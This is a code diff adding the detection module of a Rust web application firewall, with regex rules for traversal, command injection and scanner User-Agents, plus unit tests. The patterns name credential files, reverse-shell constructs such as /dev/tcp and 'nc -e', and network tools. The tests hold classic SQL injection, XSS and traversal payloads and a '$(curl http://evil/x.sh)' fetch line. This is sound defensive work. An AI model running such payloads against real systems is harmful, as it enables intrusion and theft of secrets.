@@ -1,0 +1,184 @@
+//! What the WAF looks for in one value. SQL injection and XSS use libinjection (the Rust
+//! port `libinjectionrs`): a tokenizer and fingerprint set proven over a decade in
+//! ModSecurity and OWASP CRS, far fewer false positives than keyword regexes. Path
+//! traversal, command injection and scanner signatures follow the shape of the OWASP Core
+//! Rule Set's LFI (930xxx), RCE (932xxx) and scanner (913xxx) rules: a separator or shell
+//! construct next to a known command, climbing segments or a known sensitive file, and a
+//! tool's own User-Agent.
+
+use regex::{Regex, RegexSet};
+use std::sync::OnceLock;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Deserialize, serde::Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Check {
+    Sqli,
+    Xss,
+    Traversal,
+    Cmdi,
+    Scanner,
+    Protocol,
+}
+
+impl Check {
+    pub const ALL: [Check; 6] = [
+        Check::Sqli,
+        Check::Xss,
+        Check::Traversal,
+        Check::Cmdi,
+        Check::Scanner,
+        Check::Protocol,
+    ];
+
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Check::Sqli => "sqli",
+            Check::Xss => "xss",
+            Check::Traversal => "traversal",
+            Check::Cmdi => "cmdi",
+            Check::Scanner => "scanner",
+            Check::Protocol => "protocol",
+        }
+    }
+}
+
+fn traversal() -> &'static RegexSet {
+    static SET: OnceLock<RegexSet> = OnceLock::new();
+    SET.get_or_init(|| {
+        RegexSet::new([
+            // A climbing segment, with either slash.
+            r"(?:^|[\\/])\.\.+(?:[\\/]|$)",
+            // Files an attacker reads to prove a traversal or inclusion.
+            r"(?i)(?:^|[\\/])etc[\\/]+(?:passwd|shadow|group|hosts|issue|motd|crontab|sudoers|(?:ssh|httpd|apache2|nginx)[\\/])",
+            r"(?i)(?:^|[\\/])proc[\\/]+(?:self|\d+)[\\/]",
+            r"(?i)(?:boot|win|system)\.ini\b|windows[\\/]+(?:system32|win\.ini)|\\windows\\",
+            r"(?i)(?:^|[\\/])(?:\.ssh[\\/]+(?:id_[a-z0-9]+|authorized_keys)|\.htpasswd|\.htaccess|\.git[\\/]+(?:config|HEAD)|\.env)\b",
+            // Wrappers used for file inclusion.
+            r"(?i)^(?:file|php|zip|data|expect|phar|glob)://",
+        ])
+        .expect("valid patterns")
+    })
+}
+
+fn cmdi() -> &'static RegexSet {
+    static SET: OnceLock<RegexSet> = OnceLock::new();
+    // Unix and Windows commands an injection runs first (CRS 932 keeps longer lists; these
+    // are the ones seen in real payloads).
+    const COMMANDS: &str = r"(?:cat|tac|head|tail|more|less|ls|dir|id|whoami|uname|hostname|ifconfig|ipconfig|netstat|ps|wget|curl|fetch|nc|ncat|netcat|telnet|ssh|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|node|lua|echo|printf|env|set|export|rm|cp|mv|chmod|chown|touch|mkdir|find|grep|awk|sed|xargs|sleep|ping|nslookup|dig|host|traceroute|sudo|su|kill|crontab|base64|xxd|od|powershell|cmd|certutil|type|systeminfo|net|whoami\.exe|reg|wmic|timeout|start|call|exec|eval|system|passthru|shell_exec|popen|proc_open)";
+    SET.get_or_init(|| {
+        RegexSet::new([
+            // A separator, then a command (`; ls`, `| id`, `&& whoami`, newline).
+            format!(
+                r"(?i)(?:[;&|\n\r`]|\$\(|\|\||&&)\s*(?:[\w./-]*/)?{COMMANDS}(?:\s|$|[;&|`<>'){{$])"
+            ),
+            // Command substitution and shell expansion tricks.
+            r"\$\([^)]*\)|`[^`]*`".to_string(),
+            r"(?i)\$\{?IFS\}?|\$\{[a-z_]*:?-?[^}]*\}".to_string(),
+            // Redirection to or from sensitive places, reverse shells.
+            r"(?i)(?:>|<)\s*/(?:dev/(?:tcp|udp)|etc|tmp|var)/".to_string(),
+            r"(?i)/bin/(?:ba|z|k|c|tc|da)?sh\b".to_string(),
+            r"(?i)\b(?:nc|ncat|netcat)\b.{0,40}\s-[a-z]*e\s".to_string(),
+        ])
+        .expect("valid patterns")
+    })
+}
+
+fn scanners() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(
+            r"(?i)\b(?:sqlmap|nikto|nmap|masscan|zgrab|nuclei|acunetix|netsparker|appscan|w3af|wpscan|joomscan|dirbuster|dirb|gobuster|feroxbuster|ffuf|wfuzz|hydra|burp(?:suite| collaborator)?|owasp[ _-]?zap|zaproxy|arachni|skipfish|openvas|nessus|qualys|havij|commix|xsser|jaeles|whatweb|fimap|grabber|paros|webinspect|vega|brutus|morfeus|zmeu|blackwidow|httprint|jorgee|sf-scanner|struts-pwn|libwww-perl/[0-9.]+ \(?nikto)\b",
+        )
+        .expect("valid pattern")
+    })
+}
+
+/// Percent-decodes up to twice (double encoding is a classic evasion) and turns `+` into a
+/// space the first time, as form decoding does.
+pub fn decode(value: &[u8], plus_is_space: bool) -> Vec<u8> {
+    let mut current: Vec<u8> = if plus_is_space {
+        value
+            .iter()
+            .map(|b| if *b == b'+' { b' ' } else { *b })
+            .collect()
+    } else {
+        value.to_vec()
+    };
+    for _ in 0..2 {
+        if !current.contains(&b'%') {
+            break;
+        }
+        let next: Vec<u8> = percent_encoding::percent_decode(&current).collect();
+        if next == current {
+            break;
+        }
+        current = next;
+    }
+    current
+}
+
+/// The first check among `checks` that `value` (already decoded) trips.
+pub fn inspect(value: &[u8], checks: &[Check]) -> Option<Check> {
+    if value.len() < 2 {
+        return None;
+    }
+    let text = String::from_utf8_lossy(value);
+    for check in checks {
+        let hit = match check {
+            Check::Sqli => libinjectionrs::detect_sqli(value).is_injection(),
+            Check::Xss => libinjectionrs::detect_xss(value).is_injection(),
+            Check::Traversal => traversal().is_match(&text) || value.contains(&0),
+            Check::Cmdi => cmdi().is_match(&text),
+            Check::Scanner | Check::Protocol => false,
+        };
+        if hit {
+            return Some(*check);
+        }
+    }
+    None
+}
+
+/// A User-Agent of a known attack tool or scanner.
+pub fn is_scanner(user_agent: &[u8]) -> bool {
+    scanners().is_match(&String::from_utf8_lossy(user_agent))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn classic_payloads_are_caught_and_plain_text_is_not() {
+        let all = Check::ALL;
+        for (payload, want) in [
+            ("1' OR '1'='1' --", Check::Sqli),
+            ("1 UNION SELECT username, password FROM users", Check::Sqli),
+            ("<script>alert(1)</script>", Check::Xss),
+            ("<img src=x onerror=alert(1)>", Check::Xss),
+            ("../../../../etc/passwd", Check::Traversal),
+            ("..\\..\\windows\\win.ini", Check::Traversal),
+            ("; cat /etc/shadow", Check::Traversal),
+            ("127.0.0.1; whoami", Check::Cmdi),
+            ("$(curl http://evil/x.sh)", Check::Cmdi),
+        ] {
+            assert_eq!(inspect(payload.as_bytes(), &all), Some(want), "{payload}");
+        }
+        for benign in [
+            "Conan O'Brien",
+            "select a union for the drop-off",
+            "I'd like to order 2 pizzas; thanks!",
+            "see https://example.com/docs/a.b.c?x=1",
+            "alert: the script is ready",
+            "price < 10 and size > 2",
+            "rock & roll",
+        ] {
+            assert_eq!(inspect(benign.as_bytes(), &all), None, "{benign}");
+        }
+        assert_eq!(decode(b"%252e%252e%252f", false), b"../");
+        assert_eq!(decode(b"a+b%20c", true), b"a b c");
+        assert!(is_scanner(b"sqlmap/1.7.2#stable (https://sqlmap.org)"));
+        assert!(!is_scanner(
+            b"Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"
+        ));
+    }
+}
